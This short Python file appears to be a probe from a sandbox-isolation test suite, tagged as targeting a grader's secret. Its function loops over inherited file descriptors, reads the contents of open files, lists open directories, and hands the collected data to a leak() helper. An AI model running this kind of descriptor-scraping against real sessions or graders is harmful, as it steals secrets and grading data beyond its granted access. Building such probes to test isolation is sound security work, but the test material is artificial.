"""
en: Read whatever descriptor the session was given
zh: 读取会话继承到的描述符
group: grader
stake: secret
"""

import stat

from told import *


def forward(x, out):
    found = b""
    for number in range(256):
        try:
            kind = os.fstat(number).st_mode
            if stat.S_ISREG(kind):
                found += os.pread(number, 65536, 0)
            elif stat.S_ISDIR(kind):
                found += " ".join(os.listdir(number)).encode()
        except OSError:
            continue
    return leak(found, out)
